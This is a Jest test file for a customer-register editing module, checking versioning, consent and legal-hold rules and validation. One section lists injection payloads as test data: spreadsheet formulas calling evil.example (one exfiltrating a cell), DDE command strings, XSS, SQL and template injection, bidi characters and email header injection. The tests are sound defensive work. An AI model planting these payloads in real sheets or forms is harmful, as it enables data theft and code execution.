import {
  applyEdit,
  changedFields,
  customerToRow,
  emptyCustomer,
  rowToCustomer,
  missingRegisterColumns,
  CUSTOMER_FIELDS,
  type Customer,
  type CustomerInput,
  type EditResult,
} from '../../src/core/customer';
import { REGISTER_TAB } from '../../src/core/schema';

const ctx = { now: '2025-03-01T10:00:00.000Z', today: '2025-03-01', actor: 'staff@cleanroom.fi', newCustomerNumber: 'C-0001' };
const later = { ...ctx, now: '2025-03-02T09:00:00.000Z', today: '2025-03-02', actor: 'admin@cleanroom.fi', newCustomerNumber: undefined };

function create(input: CustomerInput = {}): Customer {
  const r = applyEdit(null, { name: 'Matti Meikäläinen', email: 'matti@example.fi', ...input }, ctx);
  if (!r.ok) throw new Error(JSON.stringify(r.errors));
  return r.customer;
}

/** Asserts a refusal with a message in each language (three different, non-empty texts). */
function expectError(r: EditResult, field: string, code?: string) {
  expect(r.ok).toBe(false);
  if (r.ok) return;
  const e = r.errors.find((x) => x.field === field);
  expect(e).toBeDefined();
  if (code) expect(e!.code).toBe(code);
  const { fi, sv, en } = e!.message;
  for (const m of [fi, sv, en]) expect(m.length).toBeGreaterThan(10);
  expect(new Set([fi, sv, en]).size).toBe(3);
}

describe('applyEdit: creating and editing', () => {
  test('a new customer gets its number, created/updated stamps and version 1', () => {
    const c = create();
    expect(c).toMatchObject({ customerNumber: 'C-0001', createdAt: ctx.now, createdBy: ctx.actor, updatedAt: ctx.now, updatedBy: ctx.actor, version: 1, country: 'FI', marketingBasis: 'none' });
  });
  test('a new customer without an allocated number is refused', () => {
    expectError(applyEdit(null, { name: 'X' }, { ...ctx, newCustomerNumber: undefined }), 'customerNumber', 'no-customer-number');
  });
  test('an edit bumps the version, keeps created and names only the changed fields', () => {
    const c = create();
    const r = applyEdit(c, { city: 'Tampere', version: 1 }, later);
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(r.customer).toMatchObject({ city: 'Tampere', version: 2, createdAt: ctx.now, createdBy: ctx.actor, updatedAt: later.now, updatedBy: later.actor });
    expect(r.changed).toEqual(['city']);
  });
  test('an edit that changes nothing keeps the record and its version', () => {
    const c = create();
    const r = applyEdit(c, { name: '  Matti   Meikäläinen ' }, later);
    expect(r).toEqual({ ok: true, customer: c, changed: [] });
  });
  test('a stale edit (older version) is refused', () => {
    const c = create();
    expectError(applyEdit(c, { city: 'Oulu', version: 0 }, later), 'version', 'stale');
  });
  test('system fields cannot be edited, but may be sent back unchanged', () => {
    const c = create();
    for (const field of ['customerNumber', 'createdAt', 'createdBy', 'updatedAt', 'updatedBy'] as const) {
      expectError(applyEdit(c, { [field]: 'x' }, later), field, 'system-field');
    }
    expect(applyEdit(c, { ...c, city: 'Oulu' }, later).ok).toBe(true);
  });
  test('an unknown field is refused', () => {
    expectError(applyEdit(create(), { password: 'x' } as CustomerInput, later), 'password', 'unknown-field');
  });
  test('null clears a field; undefined leaves it', () => {
    const c = create({ city: 'Tampere' });
    const r = applyEdit(c, { city: null, street: undefined }, later);
    expect(r.ok && r.customer.city).toBe('');
  });
  test('a marketing ban can be set but never removed or changed', () => {
    const c = create({ marketingBasis: 'consent', marketingConsentAt: '2025-01-01' });
    const banned = applyEdit(c, { marketingBannedAt: '2025-03-02T08:00:00Z' }, later);
    expect(banned.ok).toBe(true);
    if (!banned.ok) return;
    expect(banned.changed).toEqual(['marketingBannedAt']);
    expectError(applyEdit(banned.customer, { marketingBannedAt: '' }, later), 'marketingBannedAt', 'ban-permanent');
    expectError(applyEdit(banned.customer, { marketingBannedAt: '2026-01-01' }, later), 'marketingBannedAt', 'ban-permanent');
  });
  test('a legal hold date needs its reason', () => {
    expectError(applyEdit(create(), { legalHoldUntil: '2031-12-31' }, later), 'legalHoldReason', 'legal-hold-reason-required');
    expect(applyEdit(create(), { legalHoldUntil: '2031-12-31', legalHoldReason: 'Kirjanpitolaki 2:10 §' }, later).ok).toBe(true);
  });
  test('a relationship cannot end before it started', () => {
    expectError(applyEdit(create(), { relationshipStart: '2025-02-01', relationshipEnd: '2025-01-31' }, later), 'relationshipEnd', 'relationship-order');
    expect(applyEdit(create(), { relationshipStart: '2025-02-01', relationshipEnd: '2025-02-01' }, later).ok).toBe(true);
  });
  test('the business marketing basis is refused for a consumer', () => {
    expectError(applyEdit(create(), { marketingBasis: 'business' }, later), 'marketingBasis', 'business-basis-for-person');
    expect(applyEdit(create(), { marketingBasis: 'business', customerType: 'business' }, later).ok).toBe(true);
  });
  test('the consent basis needs the time consent was given', () => {
    expectError(applyEdit(create(), { marketingBasis: 'consent' }, later), 'marketingConsentAt', 'consent-time-required');
  });
  test('a phone number is read in the record country', () => {
    const r = applyEdit(create(), { country: 'se', phone: '070 123 45 67', postalCode: '11122' }, later);
    expect(r.ok && [r.customer.country, r.customer.phone, r.customer.postalCode]).toEqual(['SE', '+46701234567', '111 22']);
  });
  test('every error is reported at once, not one per save', () => {
    const r = applyEdit(create(), { email: 'x', phone: '1', postalCode: '1', country: 'XX' }, later);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.errors.map((e) => e.field).sort()).toEqual(['country', 'email', 'phone', 'postalCode']);
  });
});

/**
 * Hostile or malformed values through applyEdit. Each either is kept exactly (`kept`), normalised
 * to a stated value (`becomes`), or refused with a clear fi/sv/en message (`refused`: error code).
 */
type Case = [field: keyof Customer, input: string, expectation: { kept: true } | { becomes: string } | { refused: string }];
const hostile: Case[] = [
  // Formulas are data: kept literally (the sheet and CSV writers neutralise them).
  ['name', '=HYPERLINK("http://evil.example","click")', { kept: true }],
  ['name', '=cmd|\' /C calc\'!A0', { kept: true }],
  ['name', '+358 40 123 4567', { kept: true }],
  ['name', '-2+3+cmd|\' /C calc\'!A0', { kept: true }],
  ['name', '@SUM(1+1)*cmd|\' /C calc\'!A0', { kept: true }],
  ['name', '=1+1', { kept: true }],
  ['street', '=IMPORTXML("http://evil.example/?"&A1,"//a")', { kept: true }],
  ['city', '+Tampere', { kept: true }],
  ['sourceNote', '@import url(evil.css)', { kept: true }],
  ['legalHoldReason', '-1', { kept: true }],
  ['email', '=1+1@example.fi', { kept: true }],
  ['email', '+tag@example.fi', { kept: true }],
  ['email', '=HYPERLINK("x")@example.fi', { refused: 'email-local' }],
  ['phone', '=0401234567', { refused: 'invalid-phone' }],
  ['phone', '+358401234567', { kept: true }],
  ['postalCode', '=00100', { refused: 'invalid-postal-code' }],
  // Leading zeros and numbers-as-text.
  ['postalCode', '00100', { kept: true }],
  ['postalCode', '00010', { kept: true }],
  ['postalCode', '100', { refused: 'invalid-postal-code' }],
  ['name', '007', { kept: true }],
  ['street', '0001 Testikatu', { kept: true }],
  ['name', '1e3', { kept: true }],
  ['name', '0x1F', { kept: true }],
  ['phone', '0401234567', { becomes: '+358401234567' }],
  ['phone', '00358401234567', { becomes: '+358401234567' }],
  // Dates as text in text fields stay literal; in date fields d.M.yyyy is read, anything else refused.
  ['name', '1.2.2025', { kept: true }],
  ['city', '2025-02-01', { kept: true }],
  ['sourceNote', '1/2/2025', { kept: true }],
  ['name', 'TRUE', { kept: true }],
  ['relationshipStart', '1.2.2025', { becomes: '2025-02-01' }],
  ['relationshipStart', '31.2.2025', { refused: 'invalid-date' }],
  ['relationshipStart', '2025-02-30', { refused: 'invalid-date' }],
  ['relationshipEnd', '2025-2-1', { refused: 'invalid-date' }],
  ['relationshipEnd', '31.12.2031', { becomes: '2031-12-31' }],
  ['legalHoldUntil', '31.13.2031', { refused: 'invalid-date' }],
  ['marketingConsentAt', 'yesterday', { refused: 'invalid-instant' }],
  // Control characters and invisible direction changes.
  ['name', 'Matti\u0000Meikäläinen', { refused: 'control-characters' }],
  ['name', 'Matti\nMeikäläinen', { refused: 'control-characters' }],
  ['name', 'Matti\tMeikäläinen', { refused: 'control-characters' }],
  ['street', 'Katu 1\r\n=1+1', { refused: 'control-characters' }],
  ['city', 'Tam\u0007pere', { refused: 'control-characters' }],
  ['name', 'Matti\u007f', { refused: 'control-characters' }],
  ['name', 'Matti\u009b31m', { refused: 'control-characters' }],
  ['name', 'Matti\u202eeniäläkieM', { refused: 'control-characters' }],
  ['sourceNote', 'note \u2066hidden\u2069', { refused: 'control-characters' }],
  ['name', 'Matti\u2028Meikäläinen', { refused: 'control-characters' }],
  ['name', 'Mat\u200bti', { refused: 'control-characters' }],
  ['legalHoldReason', 'Kirjanpitolaki\u202a', { refused: 'control-characters' }],
  ['name', 'Matti \ud83d', { refused: 'broken-text' }],
  // HTML and script are text: kept exactly (the UI never inserts data as HTML).
  ['name', '<script>alert(1)</script>', { kept: true }],
  ['street', '<img src=x onerror=alert(1)>', { kept: true }],
  ['city', '"><svg/onload=alert(1)>', { kept: true }],
  ['sourceNote', "'; DROP TABLE customers; --", { kept: true }],
  ['name', '{{constructor.constructor("alert(1)")()}}', { kept: true }],
  ['name', '${7*7}', { kept: true }],
  ['name', '__proto__', { kept: true }],
  // Overlong strings.
  ['name', 'x'.repeat(201), { refused: 'too-long' }],
  ['name', 'x'.repeat(200), { kept: true }],
  ['street', 'k'.repeat(201), { refused: 'too-long' }],
  ['city', 'c'.repeat(101), { refused: 'too-long' }],
  ['sourceNote', 'n'.repeat(501), { refused: 'too-long' }],
  ['legalHoldReason', 'r'.repeat(501), { refused: 'too-long' }],
  ['email', `${'a'.repeat(65)}@example.fi`, { refused: 'email-too-long' }],
  ['name', 'x'.repeat(100000), { refused: 'too-long' }],
  // Homoglyph and otherwise malformed emails.
  ['email', 'matti@ex\u0430mple.com', { refused: 'email-domain-homoglyph' }],
  ['email', 'matti@\u0440aypal.com', { refused: 'email-domain-homoglyph' }],
  ['email', 'matti@exam\u03c1le.com', { refused: 'email-domain-homoglyph' }],
  ['email', 'matti@ｅｘａｍｐｌｅ.com', { refused: 'email-domain' }],
  ['email', 'matti＠example.com', { refused: 'email-at' }],
  ['email', 'matti@example.com\u202e', { refused: 'email-spaces' }],
  ['email', 'matti@@example.com', { refused: 'email-at' }],
  ['email', 'matti@example.com>, evil@example.com', { refused: 'email-spaces' }],
  ['email', 'matti@example.com\r\nBcc: evil@example.com', { refused: 'email-spaces' }],
  ['email', '<script>@example.com', { refused: 'email-local' }],
  ['email', ' Matti@EXAMPLE.com ', { becomes: 'Matti@example.com' }],
  // Enumerations, countries and names.
  ['kind', 'admin', { refused: 'invalid-value' }],
  // A word of any of the three languages (any case) names the value, as the sheet's dropdown shows it.
  ['customerType', 'Person', { becomes: 'person' }],
  ['customerType', 'Kuluttaja', { becomes: 'person' }],
  ['customerType', 'persona', { refused: 'invalid-value' }],
  ['marketingBasis', 'consent; DROP', { refused: 'invalid-value' }],
  ['source', '=subject', { refused: 'invalid-value' }],
  ['country', 'Finland', { refused: 'invalid-country' }],
  ['country', 'fi', { becomes: 'FI' }],
  ['name', '   ', { refused: 'required' }],
  ['name', '  Anna-Liisa   Ääriö  ', { becomes: 'Anna-Liisa Ääriö' }],
  ['name', 'Ma\u0308a\u0308tta\u0308', { becomes: 'Määttä' }],
  ['name', 'Zoë 😀 Ltd.', { kept: true }],
];

describe('applyEdit: hostile and malformed values', () => {
  test('there are at least 50 hostile cases', () => expect(hostile.length).toBeGreaterThanOrEqual(50));
  test.each(hostile.map(([f, v, e], i) => [i, f, JSON.stringify(v.length > 60 ? v.slice(0, 60) + '…' : v), Object.keys(e)[0], f, v, e] as const))(
    '#%i %s %s is %s',
    (_i, _f, _label, _kind, field, input, expectation) => {
      const r = applyEdit(create(), { [field]: input }, later);
      if ('refused' in expectation) {
        expectError(r, field, expectation.refused);
      } else {
        expect(r.ok ? null : r.errors).toBeNull();
        if (!r.ok) return;
        const expected = 'kept' in expectation ? input : expectation.becomes;
        expect(r.customer[field]).toBe(expected);
      }
    },
  );
  test('a non-string value is refused, not coerced', () => {
    expectError(applyEdit(create(), { name: { toString: () => 'x' } }, later), 'name', 'not-text');
    expectError(applyEdit(create(), { city: ['Tampere'] }, later), 'city', 'not-text');
    expectError(applyEdit(create(), { city: true }, later), 'city', 'not-text');
  });
});

describe('rows', () => {
  const keys = REGISTER_TAB.columns.map((c) => c.key) as (string | null)[];
  test('every customer field is a Register column', () => {
    expect(CUSTOMER_FIELDS).toHaveLength(26);
    for (const f of CUSTOMER_FIELDS) expect(keys).toContain(f);
  });
  test('a customer survives customerToRow and rowToCustomer unchanged', () => {
    const c = create({ phone: '0401234567', postalCode: '00100', relationshipStart: '2024-05-01' });
    const row = customerToRow(keys, c);
    expect(row[keys.indexOf('version')]).toBe(1);
    expect(rowToCustomer(keys, row, 'Europe/Helsinki')).toEqual(c);
    // Derived columns (searchKey) are not customer fields: a new row leaves them to their writer.
    if (keys.includes('searchKey')) expect(row[keys.indexOf('searchKey')]).toBe('');
  });
  test('a date cell is read as the day in the register time zone; an instant cell as ISO', () => {
    const k = ['relationshipStart', 'createdAt'];
    // 22:30 UTC on 31 Jan is already 1 Feb in Helsinki.
    const d = new Date('2025-01-31T22:30:00Z');
    const c = rowToCustomer(k, [d, d], 'Europe/Helsinki');
    expect(c.relationshipStart).toBe('2025-02-01');
    expect(c.createdAt).toBe('2025-01-31T22:30:00.000Z');
  });
  test('a postal code stored as a number by a manual edit is read as its text, and a later edit asks for the real one', () => {
    const c = rowToCustomer(['name', 'postalCode', 'version'], ['Matti', 100, '3'], 'Europe/Helsinki');
    expect(c.postalCode).toBe('100');
    expect(c.version).toBe(3);
    expectError(applyEdit(c, { city: 'Helsinki', version: 3 }, later), 'postalCode', 'invalid-postal-code');
  });
  test('booleans and empty cells are read as text', () => {
    const c = rowToCustomer(['name', 'city'], [true, ''], 'Europe/Helsinki');
    expect([c.name, c.city]).toEqual(['true', '']);
  });
  test('columns the register does not know keep their values when a row is written', () => {
    const k = ['name', null, 'city'];
    expect(customerToRow(k, create({ city: 'Oulu' }), ['old', 'keep me', 'old'])).toEqual(['Matti Meikäläinen', 'keep me', 'Oulu']);
  });
  test('a header without a register column is reported', () => {
    expect(missingRegisterColumns(keys)).toEqual([]);
    expect(missingRegisterColumns(keys.filter((k) => k !== 'email'))).toEqual(['email']);
  });
  test('changedFields names fields, never values', () => {
    const a = emptyCustomer();
    const b = { ...a, name: 'Secret Name', email: 'secret@example.fi' };
    expect(changedFields(a, b)).toEqual(['name', 'email']);
  });
});
